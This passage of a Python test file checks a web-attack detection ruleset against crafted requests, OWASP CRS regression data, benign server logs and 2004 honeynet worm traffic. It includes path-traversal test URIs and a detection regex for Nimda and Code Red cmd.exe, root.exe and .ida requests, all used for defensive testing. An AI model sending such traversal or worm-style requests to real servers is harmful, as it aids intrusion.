    R("POST", "/user/register", {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": BROWSER_UA},
      "name=bob&mail=bob%40example.org&pass%5Bpass1%5D=s3cret&pass%5Bpass2%5D=s3cret&form_id=user_register_form&op=Create+new+account"),
    R("PROPFIND", "/remote.php/dav/files/alice/", {"Depth": "1", "User-Agent": "Mozilla/5.0 (Windows) mirall/3.9.0 (Nextcloud)", "Content-Type": "application/xml"},
      '<?xml version="1.0"?><d:propfind xmlns:d="DAV:"><d:prop><d:getlastmodified/></d:prop></d:propfind>'),
    R("GET", "/wls-wsat/CoordinatorPortType?wsdl", {"User-Agent": BROWSER_UA}, ""),
]

CASE_IDS = [f"{i:03d}-{stem}-{'fire' if fire else 'quiet'}" for i, (stem, _, fire) in enumerate(CASES)]


@pytest.fixture(scope="module")
def case_results(ruleset):
    return evaluate(ruleset, "http", [row for _, row, _ in CASES])


@pytest.mark.parametrize("i", range(len(CASES)), ids=CASE_IDS)
def test_rule_case(case_results, i):
    stem, row, fire = CASES[i]
    hit = ID[stem] in case_results[i]
    assert hit == fire, f"{stem} {'missed' if fire else 'fired on'} {row['http_request_method']} {row['url_original']}"


def test_every_rule_has_positive_and_negative_case():
    pos = {stem for stem, _, fire in CASES if fire}
    neg = {stem for stem, _, fire in CASES if not fire}
    assert set(META) - pos == set()
    assert set(META) - neg == set()


def test_benign_traffic_fires_nothing(ruleset):
    results = evaluate(ruleset, "http", BENIGN)
    names = {v: k for k, v in ID.items()}
    fired = [(row["url_original"], [names.get(r, r) for r in hit]) for row, hit in zip(BENIGN, results, strict=True) if hit]
    assert fired == []


def test_url_parts_are_derived_as_ingest_derives_them(tmp_path):
    """Rows give the URL as sent; evaluate derives path, query and decoded form with ingest's
    macros: ASCII escapes are decoded even when the rest does not decode to UTF-8."""
    from tests.detect.sigma_helpers import matches

    det = ("a:\n  cs-uri-stem: '/p'\n  cs-uri-query: 'x=1'\n"
           "b:\n  url.decoded|contains: '/../'\ncondition: a or b")
    uris = ["/p?x=1", "/p", "/q?x=1",  # path and query
            "/a/%2e%2e/%c0%af", "/a/..%c0%af/", "/a/%2e%2e%2fb"]  # decoded: ASCII escapes
    rows = [access_row("GET", u) for u in uris]
    assert matches(tmp_path, det, rows) == [True, False, False, True, False, True]


# --- public data (skipped when ../shared/data is absent) ------------------------------------

DATA = ROOT / ".." / "shared" / "data" / "web"
CRS_FAMILIES = {
    "913": "scanners", "930": "LFI", "931": "RFI", "932": "RCE", "933": "PHP", "941": "XSS",
    "942": "SQLi", "944": "Java",
}
# Recall floors a little under what the pack reaches (measured 2026-11-26: 913 1.00, 930 0.48,
# 931 0.31, 932 0.40, 933 0.59, 941 0.58, 942 0.36, 944 0.82; overall 0.56). Many CRS positives
# are paranoia-level-4 fragments ("code=visudo", "pay=substr(") that a precise pack leaves alone.
CRS_RECALL_FLOOR = {
    "913": 0.8, "930": 0.4, "931": 0.25, "932": 0.35, "933": 0.5, "941": 0.5, "942": 0.3,
    "944": 0.75,
}


def test_crs_regression_requests(ruleset):
    """Detection rate on the OWASP CRS regression requests (expect_match true) of the families
    the pack covers, and the rate on their negatives (expect_match false). The 944 negatives are
    Java class names in XML element names, i.e. attacks CRS leaves to another rule, so the false-
    positive floor is asserted on the other families."""
    import json

    path = DATA / "crs_requests.jsonl"
    if not path.exists():
        pytest.skip("shared CRS data absent")
    recs = [json.loads(line) for line in path.open(encoding="utf-8")]
    recs = [r for r in recs if str(r["rule_id"])[:3] in CRS_FAMILIES and r["expect_match"] is not None]
    rows = [request_row(r["method"], r["uri"], r["headers"], r["body"]) for r in recs]
    hits = evaluate(ruleset, "http", rows)
    tally = {f: [0, 0, 0, 0] for f in CRS_FAMILIES}  # positives, detected, negatives, fired
    for r, hit in zip(recs, hits, strict=True):
        t = tally[str(r["rule_id"])[:3]]
        if r["expect_match"]:
            t[0] += 1
            t[1] += bool(hit)
        else:
            t[2] += 1
            t[3] += bool(hit)
    lines = [
        f"{f} {CRS_FAMILIES[f]:8} recall {t[1]}/{t[0]} = {t[1] / t[0]:.2f}  "
        f"negatives fired {t[3]}/{t[2]} = {t[3] / max(t[2], 1):.2f}"
        for f, t in tally.items()
    ]
    pos = sum(t[0] for t in tally.values())
    det = sum(t[1] for t in tally.values())
    neg = sum(t[2] for f, t in tally.items() if f != "944")
    fired = sum(t[3] for f, t in tally.items() if f != "944")
    lines.append(f"all recall {det}/{pos} = {det / pos:.3f}; negatives fired (w/o 944) {fired}/{neg} = {fired / neg:.3f}")
    report = "\n".join(lines)
    print(report)
    for f, floor in CRS_RECALL_FLOOR.items():
        assert tally[f][1] / tally[f][0] >= floor, report
    assert det / pos >= 0.52, report
    assert fired / neg <= 0.10, report


_COMBINED = re.compile(r'^\S+ \S+ \S+ \[[^\]]+\] "(\S+) (\S+)(?: [^"]*)?" (\d{3}) \S+(?: "([^"]*)" "([^"]*)")?')


def _combined_rows(path: Path) -> list[dict]:
    """Access-log rows from an Apache combined log (a test stand-in for ingest)."""
    rows = []
    for line in path.open(encoding="utf-8", errors="replace"):
        m = _COMBINED.match(line)
        if m:
            ua = None if m[5] in (None, "-") else m[5]
            ref = None if m[4] in (None, "-") else m[4]
            rows.append(access_row(m[1], m[2], int(m[3]), ua=ua, referer=ref))
    return rows


def test_benign_real_logs_fire_nothing(ruleset):
    """Real, mostly benign traffic: a 2015 blog server and a form-spam log."""
    files = [DATA / "logs" / "elastic_apache_logs.log", DATA / "logs" / "nielsbasjes_hackers-access.log"]
    if not all(f.exists() for f in files):
        pytest.skip("shared web logs absent")
    for f in files:
        rows = _combined_rows(f)
        assert len(rows) > 3000
        fired = [(r["url_original"], h) for r, h in zip(rows, evaluate(ruleset, "http", rows), strict=True) if h]
        assert fired == [], f.name


def test_honeynet_worm_traffic_detected(ruleset):
    """Every Nimda/Code Red II cmd.exe/root.exe request and every Code Red .ida overflow of the
    2004 honeynet is detected by its own rule."""
    path = DATA / "logs" / "honeynet_chuvakin_access_all.log"
    if not path.exists():
        pytest.skip("shared honeynet log absent")
    rows = [r for r in _combined_rows(path) if re.search(r"(?i)(cmd|root)\.exe|\.ida\?", r["url_original"])]
    assert len(rows) > 5000
    hits = evaluate(ruleset, "http", rows)
    worm = {ID["web_iis_nimda_traversal"], ID["web_iis_codered_ida"]}
    missed = [r["url_original"] for r, h in zip(rows, hits, strict=True) if not worm & set(h)]
    assert len(missed) <= 0.01 * len(rows), missed[:10]
